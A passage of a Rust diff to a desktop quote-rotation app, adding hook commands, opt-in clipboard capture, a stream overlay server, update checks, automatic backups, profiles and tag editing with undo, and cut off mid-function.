+    /// (cheap; called every frame). Deadlines already over at startup stay
+    /// quiet.
+    pub fn update_deadlines(&mut self) {
+        let now = chrono::Local::now().naive_local();
+        let since = std::mem::replace(&mut self.deadline_checked, now);
+        if !self.deadlines.iter().any(|d| d.at > since && d.at <= now) {
+            return;
+        }
+        if self.sound_on_complete {
+            self.play_sound(Sound::Complete);
+        }
+        self.run_hook(HookEvent::SessionComplete);
+    }
 
-                        window.set_outer_position(winit::dpi::PhysicalPosition::new(new_x, new_y));
-                        let _ =
-                            window.request_inner_size(winit::dpi::PhysicalSize::new(new_w, new_h));
-                    }
-                } else {
-                    app_state.manual_resize_start = None;
-                }
-            }
+    /// Hand the command set for `event` to the hook thread along with the
+    /// current quote. Commands that already failed stay quiet until edited.
+    fn run_hook(&mut self, event: HookEvent) {
+        let command = match event {
+            HookEvent::Rotate => &self.on_rotate_command,
+            HookEvent::SessionComplete => &self.on_session_complete_command,
+        }
+        .trim();
+        if command.is_empty() || self.failed_hooks.contains(command) {
+            return;
+        }
+        let command = command.to_string();
+        if self.hooks.is_none() {
+            self.hooks = HookRunner::start();
+        }
+        let Some(hooks) = &self.hooks else {
+            return;
+        };
+        let quote = self.quotes.get(self.current_quote_index);
+        hooks.run(HookJob {
+            command,
+            event,
+            main_text: quote.map(|q| q.main_text.clone()).unwrap_or_default(),
+            sub_text: quote.map(|q| q.sub_text.clone()).unwrap_or_default(),
+            index: self.current_quote_index + 1,
+        });
+    }
 
-            // Handle window resizing via borders since it's frameless
-            let border = 8.0;
-            let screen_rect = ctx.screen_rect();
-            if !is_resizing {
-                if let Some(pos) = ctx.input(|i| i.pointer.hover_pos()) {
-                    let left = pos.x < border;
-                    let right = pos.x > screen_rect.max.x - border;
-                    let top = pos.y < border;
-                    let bottom = pos.y > screen_rect.max.y - border;
-
-                    if left || right || top || bottom {
-                        if top && left {
-                            ctx.set_cursor_icon(egui::CursorIcon::ResizeNwSe);
-                        } else if top && right {
-                            ctx.set_cursor_icon(egui::CursorIcon::ResizeNeSw);
-                        } else if bottom && left {
-                            ctx.set_cursor_icon(egui::CursorIcon::ResizeNeSw);
-                        } else if bottom && right {
-                            ctx.set_cursor_icon(egui::CursorIcon::ResizeNwSe);
-                        } else if top || bottom {
-                            ctx.set_cursor_icon(egui::CursorIcon::ResizeVertical);
-                        } else if left || right {
-                            ctx.set_cursor_icon(egui::CursorIcon::ResizeHorizontal);
-                        }
-
-                        if ctx.input(|i| i.pointer.primary_pressed()) {
-                            use winit::window::ResizeDirection;
-                            let dir = if top && left {
-                                ResizeDirection::NorthWest
-                            } else if top && right {
-                                ResizeDirection::NorthEast
-                            } else if bottom && left {
-                                ResizeDirection::SouthWest
-                            } else if bottom && right {
-                                ResizeDirection::SouthEast
-                            } else if top {
-                                ResizeDirection::North
-                            } else if bottom {
-                                ResizeDirection::South
-                            } else if left {
-                                ResizeDirection::West
-                            } else {
-                                ResizeDirection::East
-                            };
+    /// Toast each hook command the first time it fails (cheap; called every
+    /// frame). `run_hook` skips it from then on.
+    pub fn poll_hooks(&mut self) {
+        let Some(hooks) = &self.hooks else {
+            return;
+        };
+        for failure in hooks.failures() {
+            if self.failed_hooks.insert(failure.command.clone()) {
+                self.push_toast(
+                    ToastKind::Error,
+                    format!(
+                        "Hook \"{}\" {}; it won't run again until it's edited (see debug.log)",
+                        failure.command, failure.message
+                    ),
+                );
+            }
+        }
+    }
 
-                            if let (Some((cx, cy)), Ok(wpos)) =
-                                (get_global_cursor(), window.outer_position())
-                            {
-                                let size = window.inner_size();
-                                app_state.manual_resize_start =
-                                    Some((dir, cx, cy, wpos.x, wpos.y, size.width, size.height));
-                            } else {
-                                let _ = window.drag_resize_window(dir);
-                            }
-                        }
-                    }
-                }
+    /// Start or stop offering copied text as quotes
+    pub fn set_clipboard_capture(&mut self, enabled: bool) {
+        if enabled == self.clipboard_watcher.is_some() {
+            return;
+        }
+        if enabled {
+            self.clipboard_watcher = ClipboardWatcher::start();
+            if self.clipboard_watcher.is_none() {
+                self.push_toast(
+                    ToastKind::Error,
+                    "The clipboard can't be read on this system",
+                );
             }
+        } else {
+            self.clipboard_watcher = None;
+            self.pending_clipboard = None;
+            self.toasts
+                .retain(|t| !t.actions.contains(&ToastAction::AddClipboard));
+        }
+    }
 
-            let mut actions = render_title_bar(ctx, app_state, window);
+    /// Time left before clipboard capture switches itself off
+    pub fn clipboard_capture_remaining(&self) -> Option<Duration> {
+        let watcher = self.clipboard_watcher.as_ref()?;
+        let limit = Duration::from_secs(self.clipboard_capture_minutes * 60);
+        Some(limit.saturating_sub(watcher.started.elapsed()))
+    }
 
-            for action in &actions {
-                match action {
-                    TitleBarAction::ThemeClicked => app_state.theme_modal_open = true,
-                    TitleBarAction::ToggleBg => {
-                        app_state.is_3d_bg_active = !app_state.is_3d_bg_active;
-                        if app_state.is_3d_bg_active {
-                            if app_state.bg_process.is_none() {
-                                let size = window.inner_size();
-                                let (pos_x, pos_y) = if let Ok(pos) = window.outer_position() {
-                                    (pos.x, pos.y)
-                                } else {
-                                    (0, 0)
-                                };
-                                #[cfg(windows)]
-                                {
-                                    use winit::raw_window_handle::{
-                                        HasWindowHandle, RawWindowHandle,
-                                    };
-                                    let mut main_hwnd_isize = 0isize;
-                                    if let Ok(handle) = window.window_handle() {
-                                        if let RawWindowHandle::Win32(win32) = handle.as_raw() {
-                                            main_hwnd_isize = win32.hwnd.get() as isize;
+    /// Offer newly copied text as a quote, and end capture when its time is
+    /// up (cheap; called every frame)
+    pub fn poll_clipboard(&mut self) {
+        if self.clipboard_capture_remaining() == Some(Duration::ZERO) {
+            self.set_clipboard_capture(false);
+            self.push_toast(
+                ToastKind::Info,
+                format!(
+                    "Clipboard capture turned off after {} min",
+                    self.clipboard_capture_minutes
+                ),
+            );
+            return;
+        }
+        let Some(text) = self.clipboard_watcher.as_ref().and_then(|w| w.latest()) else {
+            return;
+        };
+
+        // Only the newest copy is on offer
+        self.toasts
+            .retain(|t| !t.actions.contains(&ToastAction::AddClipboard));
+        let preview: String = text.chars().take(80).collect();
+        let ellipsis = if preview.len() < text.len() {
+            "…"
+        } else {
+            ""
+        };
+        self.toasts.push(
+            Toast::new(
+                ToastKind::Info,
+                format!("Add copied text as a quote?\n\"{}{}\"", preview, ellipsis),
+            )
+            .with_actions(vec![
+                ToastAction::AddClipboard,
+                ToastAction::InboxClipboard,
+                ToastAction::IgnoreClipboard,
+            ]),
+        );
+        self.pending_clipboard = Some(text);
+    }
+
+    /// Watch the 3D background child: confirm it once it has stayed up for
+    /// BG_STARTUP_GRACE, and notice when it exits (cheap; called every frame)
+    pub fn poll_background(&mut self) {
+        let Some(child) = self.bg_process.as_mut() else {
+            return;
+        };
+        match child.try_wait() {
+            Ok(None) => {
+                if self
+                    .bg_spawned_at
+                    .is_some_and(|at| at.elapsed() >= BG_STARTUP_GRACE)
+                {
+                    self.bg_spawned_at = None;
+                    self.bg_failures = 0;
+                    self.bg_retry_at = None;
+                    self.is_3d_bg_active = true;
+                    self.save();
+                }
+            }
+            exited => {
+                let status = match exited {
+                    Ok(Some(status)) => status.to_string(),
+                    _ => "unknown status".to_string(),
+                };
+                self.bg_process = None;
+                self.bg_hwnd = None;
+                if self.bg_spawned_at.take().is_some() {
+                    let backoff = BG_RETRY_BASE
+                        .saturating_mul(1 << self.bg_failures.min(6))
+                        .min(BG_RETRY_MAX);
+                    self.bg_failures += 1;
+                    self.bg_retry_at = Some(Instant::now() + backoff);
+                    self.push_toast(
+                        ToastKind::Error,
+                        format!("3D background failed to start ({status})"),
+                    );
+                } else {
+                    self.is_3d_bg_active = false;
+                    self.push_toast(
+                        ToastKind::Error,
+                        format!("3D background stopped ({status})"),
+                    );
+                }
+                log_to_file(&format!("3D background exited: {status}"));
+                self.save();
+            }
+        }
+    }
+
+    /// Stop the 3D background, whether it is running or still starting
+    pub fn stop_background(&mut self) {
+        if let Some(mut child) = self.bg_process.take() {
+            let _ = child.kill();
+            let _ = child.wait();
+        }
+        self.bg_hwnd = None;
+        self.bg_spawned_at = None;
+        self.is_3d_bg_active = false;
+    }
+
+    /// Whether low power mode applies right now
+    pub fn power_saving(&self) -> bool {
+        match self.low_power.mode {
+            LowPowerMode::Off => false,
+            LowPowerMode::OnBattery => self.on_battery == Some(true),
+            LowPowerMode::Always => true,
+        }
+    }
+
+    /// Poll the battery every POWER_POLL_INTERVAL and switch low power mode
+    /// on or off with it (cheap; called every frame). Returns true when the
+    /// 3D background it paused should be started again.
+    pub fn update_power(&mut self) -> bool {
+        if self.power_checked.elapsed() >= POWER_POLL_INTERVAL {
+            self.power_checked = Instant::now();
+            self.on_battery = power::on_battery();
+        }
+        let active = self.power_saving();
+        if active == self.low_power_active {
+            return false;
+        }
+        self.low_power_active = active;
+        if active {
+            if self.low_power.pause_background
+                && (self.bg_process.is_some() || self.is_3d_bg_active)
+            {
+                self.stop_background();
+                self.bg_paused_for_power = true;
+                self.push_toast(ToastKind::Info, "Low power: 3D background paused");
+            }
+            false
+        } else {
+            std::mem::take(&mut self.bg_paused_for_power)
+        }
+    }
+
+    /// Frame pacing floor and idle interval for this frame
+    pub fn frame_intervals(&self) -> (Duration, Duration) {
+        if self.low_power_active && self.low_power.slow_repaint {
+            (LOW_POWER_MIN_FRAME_INTERVAL, LOW_POWER_IDLE_FRAME_INTERVAL)
+        } else {
+            (MIN_FRAME_INTERVAL, IDLE_FRAME_INTERVAL)
+        }
+    }
+
+    /// Whether eased transitions should jump straight to their end
+    pub fn still_transitions(&self) -> bool {
+        self.low_power_active && self.low_power.still_transitions
+    }
+
+    /// Start, stop or move the stream overlay server to match the settings,
+    /// and hand it the quote on screen (cheap; called every frame)
+    pub fn update_overlay(&mut self) {
+        let wanted = self.overlay_enabled.then_some(self.overlay_port);
+        if self.overlay.as_ref().map(|o| o.port) != wanted {
+            // The old one has to let go of its port first
+            self.overlay = None;
+            if let Some(port) = wanted.filter(|&p| self.overlay_failed_port != Some(p)) {
+                match OverlayServer::start(port, self.overlay_snapshot()) {
+                    Ok(server) => self.overlay = Some(server),
+                    Err(e) => {
+                        log_to_file(&format!("Overlay server failed on port {port}: {e}"));
+                        self.overlay_failed_port = Some(port);
+                        self.push_toast(
+                            ToastKind::Error,
+                            format!("Couldn't start the stream overlay on port {port}: {e}"),
+                        );
+                    }
+                }
+            }
+        }
+        if let Some(overlay) = &self.overlay {
+            overlay.publish(self.overlay_snapshot());
+        }
+    }
+
+    fn overlay_snapshot(&self) -> CurrentQuoteSnapshot {
+        let quote = self.current_quote();
+        CurrentQuoteSnapshot {
+            main: quote.map(|q| q.main_text.clone()).unwrap_or_default(),
+            sub: quote.map(|q| q.sub_text.clone()).unwrap_or_default(),
+            index: quote.map_or(0, |_| self.current_quote_index + 1),
+            main_color: self.text_style.main_text_color,
+            sub_color: self.text_style.sub_text_color,
+            main_size: self.text_style.main_text_size,
+            sub_size: self.text_style.sub_text_size,
+        }
+    }
+
+    /// Start the opt-in update check once a day, and offer a newer release
+    /// when the answer comes back. Failures (offline, rate limits) only go
+    /// to debug.log (cheap; called every frame)
+    pub fn update_release_check(&mut self) {
+        if let Some(answer) = self.update_check.as_ref() {
+            let release = match answer.try_recv() {
+                Ok(Ok(release)) => release,
+                Ok(Err(err)) => {
+                    log_to_file(&format!("Update check failed: {err}"));
+                    self.update_check = None;
+                    return;
+                }
+                Err(std::sync::mpsc::TryRecvError::Empty) => return,
+                Err(std::sync::mpsc::TryRecvError::Disconnected) => {
+                    self.update_check = None;
+                    return;
+                }
+            };
+            self.update_check = None;
+            if !is_newer_version(&release.version, env!("CARGO_PKG_VERSION"))
+                || self.skipped_version.as_deref() == Some(release.version.as_str())
+            {
+                return;
+            }
+            self.toasts.push(
+                Toast::new(
+                    ToastKind::Info,
+                    format!(
+                        "Version {} is available (this is {})",
+                        release.version,
+                        env!("CARGO_PKG_VERSION")
+                    ),
+                )
+                .with_actions(vec![
+                    ToastAction::OpenRelease,
+                    ToastAction::SkipVersion,
+                    ToastAction::DismissUpdate,
+                ]),
+            );
+            self.available_update = Some(release);
+            return;
+        }
+
+        if !self.check_updates || self.read_only {
+            return;
+        }
+        let today = chrono::Local::now().date_naive();
+        if self.last_update_check == Some(today) {
+            return;
+        }
+        // Counted as done when asked, so a failing check isn't retried all day
+        self.last_update_check = Some(today);
+        self.save();
+        self.update_check = Some(start_update_check());
+    }
+
+    /// Make the weekly automatic backup when it's due, keeping only the
+    /// newest AUTO_BACKUP_KEEP archives (cheap; called every frame)
+    pub fn update_auto_backup(&mut self) {
+        if !self.auto_backup || self.read_only {
+            return;
+        }
+        let today = chrono::Local::now().date_naive();
+        if self
+            .last_auto_backup
+            .is_some_and(|last| (today - last).num_days() < AUTO_BACKUP_EVERY_DAYS)
+        {
+            return;
+        }
+
+        let dir = std::path::Path::new(AUTO_BACKUP_DIR);
+        let stamp = chrono::Local::now().format("%Y%m%d-%H%M%S");
+        let path = dir.join(format!("settings-{}.zip", stamp));
+        let result = std::fs::create_dir_all(dir)
+            .map_err(|e| e.to_string())
+            .and_then(|()| write_backup(&self.to_config(), &path));
+        // Marked done even on failure so a broken folder doesn't retry every frame
+        self.last_auto_backup = Some(today);
+        self.save();
+        if let Err(err) = result {
+            log_to_file(&format!("Automatic backup failed: {err}"));
+            self.push_toast(ToastKind::Error, format!("Automatic backup failed: {err}"));
+            return;
+        }
+
+        // Timestamped names sort oldest first
+        let mut backups: Vec<_> = std::fs::read_dir(dir)
+            .into_iter()
+            .flatten()
+            .flatten()
+            .map(|entry| entry.path())
+            .filter(|p| {
+                p.extension().is_some_and(|e| e == "zip")
+                    && p.file_name()
+                        .is_some_and(|n| n.to_string_lossy().starts_with("settings-"))
+            })
+            .collect();
+        backups.sort();
+        let excess = backups.len().saturating_sub(AUTO_BACKUP_KEEP);
+        for old in &backups[..excess] {
+            let _ = std::fs::remove_file(old);
+        }
+    }
+
+    /// Replace the whole configuration with the staged backup. The current
+    /// settings.json is kept as PRERESTORE_FILE first; the window, the 3D
+    /// background process and other per-run state carry over untouched.
+    fn restore_backup(&mut self) {
+        let Some(mut restore) = self.pending_restore.take() else {
+            return;
+        };
+        restore.keep_commands_unless_chosen(
+            &self.on_rotate_command,
+            &self.on_session_complete_command,
+        );
+        if let Err(err) = std::fs::copy(SETTINGS_FILE, PRERESTORE_FILE) {
+            if err.kind() != std::io::ErrorKind::NotFound {
+                self.push_toast(
+                    ToastKind::Error,
+                    format!("Restore cancelled, could not keep the current settings: {err}"),
+                );
+                return;
+            }
+        }
+        // A bundled font goes next to settings.json, where `setup_fonts`
+        // finds it on the next start
+        let font = restore.font.as_ref().map(|(name, data)| {
+            std::fs::write(name, data)
+                .map(|()| name.clone())
+                .map_err(|e| format!("could not copy the font {name}: {e}"))
+        });
+
+        self.reload_config(restore.config);
+        self.restart_rotation();
+        self.save();
+        self.push_toast(
+            ToastKind::Success,
+            format!(
+                "Restored {} quotes from {} (previous settings kept as {})",
+                restore.quotes,
+                restore.path.display(),
+                PRERESTORE_FILE
+            ),
+        );
+        match font {
+            Some(Ok(name)) => self.push_toast(
+                ToastKind::Info,
+                format!("Copied the font {name}; it's used from the next start"),
+            ),
+            Some(Err(err)) => self.push_toast(ToastKind::Error, err),
+            None => {}
+        }
+    }
+
+    /// Re-apply the active profile after the profile list or override changed
+    pub fn refresh_profile(&mut self) {
+        let wanted = self.resolve_profile(chrono::Local::now().naive_local());
+        self.apply_profile(wanted);
+    }
+
+    /// The global theme, as saved. An edit made while an override showed is
+    /// the user's and becomes the global theme (see `apply_profile`).
+    pub fn global_theme(&self) -> ThemeConfig {
+        match (&self.base_theme, &self.override_theme) {
+            (Some(base), Some(shown)) if *shown == self.theme => base.clone(),
+            _ => self.theme.clone(),
+        }
+    }
+
+    /// The global interval, as saved; edited like `global_theme`
+    pub fn global_interval_secs(&self) -> u64 {
+        match (self.base_interval_secs, self.override_interval_secs) {
+            (Some(base), Some(shown)) if shown == self.interval_secs => base,
+            _ => self.interval_secs,
+        }
+    }
+
+    /// Restore the global interval/theme, then layer the given profile on top
+    /// (or, for the theme, the time-of-day band when the profile has none).
+    /// A value edited while the old override showed is kept as the global one.
+    fn apply_profile(&mut self, profile: Option<usize>) {
+        self.theme = self.global_theme();
+        self.base_theme = None;
+        self.override_theme = None;
+        let secs = self.global_interval_secs();
+        self.interval_secs = secs;
+        self.rotation_interval = Duration::from_secs(secs);
+        self.base_interval_secs = None;
+        self.override_interval_secs = None;
+
+        self.active_profile = profile;
+        let profile = profile.and_then(|idx| self.profiles.get(idx)).cloned();
+        let band_theme = self
+            .active_theme_band
+            .filter(|_| self.theme_automation)
+            .and_then(|idx| self.theme_bands.get(idx))
+            .and_then(|band| band.theme.clone());
+        let theme = profile
+            .as_ref()
+            .and_then(|profile| profile.theme.clone())
+            .or(band_theme);
+        if let Some(theme) = theme {
+            self.base_theme = Some(std::mem::replace(&mut self.theme, theme.clone()));
+            self.override_theme = Some(theme);
+        }
+        if let Some(profile) = profile {
+            if profile.interval_secs > 0 {
+                self.base_interval_secs = Some(self.interval_secs);
+                self.override_interval_secs = Some(profile.interval_secs);
+                self.interval_secs = profile.interval_secs;
+                self.rotation_interval = Duration::from_secs(profile.interval_secs);
+            }
+            if !self.quote_in_rotation(self.current_quote_index) {
+                self.next_quote();
+            }
+        }
+    }
+
+    /// Remove a profile and keep a fixed override pointing at the same entry
+    pub fn remove_profile(&mut self, index: usize) {
+        if index >= self.profiles.len() {
+            return;
+        }
+        self.profiles.remove(index);
+        self.profile_selection = match self.profile_selection {
+            ProfileSelection::Fixed(i) if i == index => ProfileSelection::Automatic,
+            ProfileSelection::Fixed(i) if i > index => ProfileSelection::Fixed(i - 1),
+            other => other,
+        };
+        self.refresh_profile();
+        self.save();
+    }
+
+    /// Run a quote's texts through `sanitize_quote_text`, if that's on
+    fn clean_quote(&self, quote: &mut Quote) {
+        if !self.clean_quote_text {
+            return;
+        }
+        quote.main_text = sanitize_quote_text(&quote.main_text);
+        quote.sub_text = sanitize_quote_text(&quote.sub_text);
+        if let Some(translation) = &mut quote.translation {
+            *translation = sanitize_quote_text(translation);
+        }
+    }
+
+    /// `text` as it would be stored: cleaned up if that's on, else as is
+    pub fn clean_text(&self, text: &str) -> String {
+        if self.clean_quote_text {
+            sanitize_quote_text(text)
+        } else {
+            text.to_string()
+        }
+    }
+
+    /// Add a new quote
+    pub fn add_quote(&mut self, mut quote: Quote) {
+        self.clean_quote(&mut quote);
+        if quote.sub_text.is_empty() {
+            quote.sub_text = self.default_sub_text.clone();
+        }
+        self.quotes.push(quote);
+        // A pinned quote stays up; the new one waits its turn
+        if self.pinned_quote.is_none() {
+            self.current_quote_index = self.quotes.len() - 1;
+        }
+        self.save();
+    }
+
+    /// Add a quote from the ADD CUSTOM TEXT inputs (or write them back to
+    /// the quote being edited) and clear them.
+    /// Returns false (and leaves the inputs alone) when the main text is blank.
+    /// A single trailing newline (left by the submitting Enter) is dropped.
+    pub fn submit_inputs(&mut self) -> bool {
+        if self.input_issue().is_some_and(InputIssue::blocks_submit) {
+            return false;
+        }
+        let strip = |text: &str| {
+            let text = text.strip_suffix('\n').unwrap_or(text);
+            text.strip_suffix('\r').unwrap_or(text).to_string()
+        };
+        let mut quote = Quote::new(strip(&self.main_text_input), strip(&self.sub_text_input));
+        quote.tags = parse_tags(&self.tag_input);
+        let translation = self.translation_input.trim();
+        quote.translation = (!translation.is_empty()).then(|| translation.to_string());
+        let source_url = self.source_url_input.trim();
+        quote.source_url = (!source_url.is_empty()).then(|| source_url.to_string());
+        match self.editing_quote.take() {
+            Some(index) if index < self.quotes.len() => self.update_quote(index, quote),
+            _ => self.add_quote(quote),
+        }
+        self.clear_inputs();
+        true
+    }
+
+    /// Replace a quote's texts, tags and links with `edited`'s, keeping its
+    /// rating, note and energy
+    fn update_quote(&mut self, index: usize, mut edited: Quote) {
+        self.clean_quote(&mut edited);
+        if edited.sub_text.is_empty() {
+            edited.sub_text = self.default_sub_text.clone();
+        }
+        let quote = &mut self.quotes[index];
+        quote.main_text = edited.main_text;
+        quote.sub_text = edited.sub_text;
+        quote.tags = edited.tags;
+        quote.translation = edited.translation;
+        quote.source_url = edited.source_url;
+        self.save();
+    }
+
+    fn clear_inputs(&mut self) {
+        self.main_text_input.clear();
+        self.sub_text_input.clear();
+        self.translation_input.clear();
+        self.source_url_input.clear();
+        self.tag_input.clear();
+    }
+
+    /// Validation state of the add form's inputs
+    pub fn input_issue(&self) -> Option<InputIssue> {
+        let issue = validate_quote_input(
+            &self.main_text_input,
+            &self.sub_text_input,
+            self.quote_max_chars,
+            // The quote being edited isn't a duplicate of itself
+            self.quotes
+                .iter()
+                .enumerate()
+                .filter(|(i, _)| Some(*i) != self.editing_quote)
+                .map(|(_, q)| q),
+        );
+        let source_url = self.source_url_input.trim();
+        if issue.is_some_and(InputIssue::blocks_submit)
+            || source_url.is_empty()
+            || is_web_url(source_url)
+        {
+            issue
+        } else {
+            Some(InputIssue::BadUrl)
+        }
+    }
+
+    /// Delete a quote by index, moving it to the archive
+    pub fn delete_quote(&mut self, index: usize) {
+        self.delete_many(&[index]);
+    }
+
+    /// Delete several quotes at once, moving them to the archive
+    pub fn delete_many(&mut self, indices: &[usize]) {
+        let quotes = self.take_quotes(indices);
+        if !quotes.is_empty() {
+            self.archive_quotes(quotes);
+            self.save();
+        }
+    }
+
+    /// Move quotes to the end of another collection, in list order
+    pub fn move_many(&mut self, indices: &[usize], target: usize) {
+        if target == self.active_collection || target >= self.collections.len() {
+            return;
+        }
+        let quotes = self.take_quotes(indices);
+        if quotes.is_empty() {
+            return;
+        }
+        let count = quotes.len();
+        self.collections[target].quotes.extend(quotes);
+        self.save();
+        let name = self.collections[target].name.clone();
+        self.push_toast(
+            ToastKind::Success,
+            format!("Moved {} quote(s) to {}", count, name),
+        );
+    }
+
+    /// Add tags to (or remove them from) several quotes; matching ignores case
+    pub fn tag_many(&mut self, indices: &[usize], tags: &[String], add: bool) {
+        if tags.is_empty() {
+            return;
+        }
+        for &index in indices {
+            let Some(quote) = self.quotes.get_mut(index) else {
+                continue;
+            };
+            for tag in tags {
+                if !add {
+                    quote.tags.retain(|t| !t.eq_ignore_ascii_case(tag));
+                } else if !quote.has_tag(tag) {
+                    quote.tags.push(tag.clone());
+                }
+            }
+        }
+        self.save();
+    }
+
+    /// Every quote the tag manager rewrites: all collections (the live one
+    /// included), the archive and the inbox
+    fn tagged_quotes(&mut self) -> impl Iterator<Item = &mut Quote> + '_ {
+        let active = self.active_collection;
+        let others = self
+            .collections
+            .iter_mut()
+            .enumerate()
+            .filter(move |(i, _)| *i != active)
+            .flat_map(|(_, c)| c.quotes.iter_mut());
+        self.quotes
+            .iter_mut()
+            .chain(others)
+            .chain(self.archived.iter_mut())
+            .chain(self.pending.iter_mut())
+    }
+
+    /// Tags used across the collections, each with how many quotes carry
+    /// it; case variants count as one tag under the first spelling seen
+    pub fn all_tags(&self) -> Vec<(String, usize)> {
+        let others = self
+            .collections
+            .iter()
+            .enumerate()
+            .filter(|(i, _)| *i != self.active_collection)
+            .flat_map(|(_, c)| c.quotes.iter());
+        let mut tags: Vec<(String, usize)> = Vec::new();
+        for tag in self.quotes.iter().chain(others).flat_map(|q| &q.tags) {
+            match tags.iter_mut().find(|(t, _)| t.eq_ignore_ascii_case(tag)) {
+                Some((_, count)) => *count += 1,
+                None => tags.push((tag.clone(), 1)),
+            }
+        }
+        tags.sort_by_key(|(t, _)| t.to_lowercase());
+        tags
+    }
+
+    pub fn tag_color(&self, tag: &str) -> Color32 {
+        self.tag_colors
+            .get(&tag.to_lowercase())
+            .copied()
+            .unwrap_or(DEFAULT_TAG_COLOR)
+    }
+
+    /// Recolor a tag; saved by `commit_tag_color` once the picker is let go
+    pub fn set_tag_color(&mut self, tag: &str, color: Color32) {
+        self.tag_colors.insert(tag.to_lowercase(), color);
+        self.tag_color_unsaved = true;
+    }
+
+    /// Save a recolor once no button is held (a picker drag has ended)
+    pub fn commit_tag_color(&mut self, pointer_down: bool) {
+        if self.tag_color_unsaved && !pointer_down {
+            self.tag_color_unsaved = false;
+            self.save();
+        }
+    }
+
+    /// Rename `from` to `to` on every quote, merging the two where a quote
+    /// already has `to`; `None` deletes the tag. The whole rewrite is one
+    /// step for `undo_tags`
+    pub fn retag(&mut self, from: &str, to: Option<&str>) {
+        let to = to
+            .map(|t| t.trim().trim_start_matches('#'))
+            .filter(|t| !t.is_empty());
+        if to == Some(from) {
+            return;
+        }
+        let merging = to.is_some_and(|to| {
+            !to.eq_ignore_ascii_case(from)
+                && self
+                    .all_tags()
+                    .iter()
+                    .any(|(t, _)| t.eq_ignore_ascii_case(to))
+        });
+        let colors = self.tag_colors.clone();
+        let profile_tags: Vec<String> = self.profiles.iter().map(|p| p.tag.clone()).collect();
+
+        let mut quote_count = 0;
+        let mut changed = Vec::new();
+        for (pos, quote) in self.tagged_quotes().enumerate() {
+            quote_count += 1;
+            if !quote.has_tag(from) {
+                continue;
+            }
+            let mut tags: Vec<String> = Vec::with_capacity(quote.tags.len());
+            for tag in &quote.tags {
+                let tag = match to {
+                    _ if !tag.eq_ignore_ascii_case(from) => tag.as_str(),
+                    Some(to) => to,
+                    None => continue,
+                };
+                if !tags.iter().any(|t| t.eq_ignore_ascii_case(tag)) {
+                    tags.push(tag.to_string());
+                }
+            }
+            let old = std::mem::replace(&mut quote.tags, tags);
+            changed.push((pos, quote.main_text.clone(), old));
+        }
+        for profile in &mut self.profiles {
+            if profile.tag.eq_ignore_ascii_case(from) {
+                profile.tag = to.unwrap_or_default().to_string();
+            }
+        }
+        // A renamed tag keeps its color; a merged one takes the target's
+        let color = self.tag_colors.remove(&from.to_lowercase());
+        if let (Some(to), Some(color)) = (to, color) {
+            self.tag_colors.entry(to.to_lowercase()).or_insert(color);
+        }
+
+        let count = changed.len();
+        self.tag_undo.push(TagSnapshot {
+            quote_count,
+            changed,
+            colors,
+            profile_tags,
+        });
+        if self.tag_undo.len() > TAG_UNDO_DEPTH {
+            self.tag_undo.remove(0);
+        }
+        self.refresh_profile();
+        self.save();
+        let message = match to {
+            Some(to) if merging => format!("Merged #{} into #{} ({} quote(s))", from, to, count),
+            Some(to) => format!("Renamed #{} to #{} ({} quote(s))", from, to, count),
+            None => format!("Deleted #{} from {} quote(s)", from, count),
+        };
+        self.toasts.push(
+            Toast::new(ToastKind::Success, message).with_actions(vec![ToastAction::UndoTags]),
+        );
+    }
+
+    /// Put back the tags as they were before the last `retag`. Refused
+    /// when quotes were added, removed or edited since, as the snapshot
+    /// would no longer line up
+    pub fn undo_tags(&mut self) {
+        let Some(snapshot) = self.tag_undo.pop() else {
+            return;
+        };
+        let restored = {
+            let mut quotes: Vec<&mut Quote> = self.tagged_quotes().collect();
+            let intact = quotes.len() == snapshot.quote_count
+                && snapshot
+                    .changed
+                    .iter()
+                    .all(|(pos, text, _)| quotes[*pos].main_text == *text);
+            if intact {
+                for (pos, _, tags) in snapshot.changed {
+                    quotes[pos].tags = tags;
+                }
+            }
+            intact
+        };
+        if !restored {
+            self.tag_undo.clear();
+            self.push_toast(
+                ToastKind::Error,
+                "The quotes changed since, so the tag change can't be undone",
+            );
+            return;
+        }
+        self.tag_colors = snapshot.colors;
+        if snapshot.profile_tags.len() == self.profiles.len() {
+            for (profile, tag) in self.profiles.iter_mut().zip(snapshot.profile_tags) {
+                profile.tag = tag;
+            }
+        }
+        self.refresh_profile();
+        self.save();
+        self.push_toast(ToastKind::Info, "Tag change undone");
+    }
+
+    /// Sub texts shared by more than one quote of the collection, each with
+    /// the indices of its quotes, most repeated first
+    pub fn repeated_sub_texts(&self) -> Vec<(String, Vec<usize>)> {
+        let mut groups: Vec<(String, Vec<usize>)> = Vec::new();
+        for (i, quote) in self.quotes.iter().enumerate() {
+            if quote.sub_text.trim().is_empty() {
+                continue;
+            }
+            match groups.iter_mut().find(|(sub, _)| *sub == quote.sub_text) {
+                Some((_, members)) => members.push(i),
+                None => groups.push((quote.sub_text.clone(), vec![i])),
+            }
+        }
+        groups.retain(|(_, members)| members.len() > 1);
+        groups.sort_by_key(|(_, members)| std::cmp::Reverse(members.len()));
+        groups
+    }
+
+    /// Give every quote whose sub text is exactly `from` the sub text `to`
+    /// (empty clears it), as one step for `undo_sub_texts`
+    pub fn set_group_sub_text(&mut self, from: &str, to: &str) {
+        let to = self.clean_text(to);
+        if to == from {
+            return;
+        }
+        let mut changed = Vec::new();
+        for (i, quote) in self.quotes.iter_mut().enumerate() {
+            if quote.sub_text == from {
+                let old = std::mem::replace(&mut quote.sub_text, to.clone());
+                changed.push((i, quote.main_text.clone(), old));
+            }
+        }
+        if changed.is_empty() {
+            return;
+        }
+
+        let count = changed.len();
+        self.sub_text_undo.push(SubTextSnapshot {
+            collection: self.active_collection,
+            quote_count: self.quotes.len(),
+            changed,
+        });
+        if self.sub_text_undo.len() > SUB_TEXT_UNDO_DEPTH {
+            self.sub_text_undo.remove(0);
+        }
+        self.save();
+        let message = if to.is_empty() {
+            format!("Cleared the sub text of {} quote(s)", count)
+        } else {
+            format!("Changed the sub text of {} quote(s)", count)
+        };
+        self.toasts.push(
+            Toast::new(ToastKind::Success, message).with_actions(vec![ToastAction::UndoSubTexts]),
+        );
+    }
+
+    /// Put back the sub texts as they were before the last group edit.
+    /// Refused when the collection changed since (switched, or quotes added,
+    /// removed or edited), as the snapshot would no longer line up
+    pub fn undo_sub_texts(&mut self) {
+        let Some(snapshot) = self.sub_text_undo.pop() else {
+            return;
+        };
+        let intact = snapshot.collection == self.active_collection
+            && snapshot.quote_count == self.quotes.len()
+            && snapshot
+                .changed
+                .iter()
+                .all(|(i, text, _)| self.quotes[*i].main_text == *text);
+        if !intact {
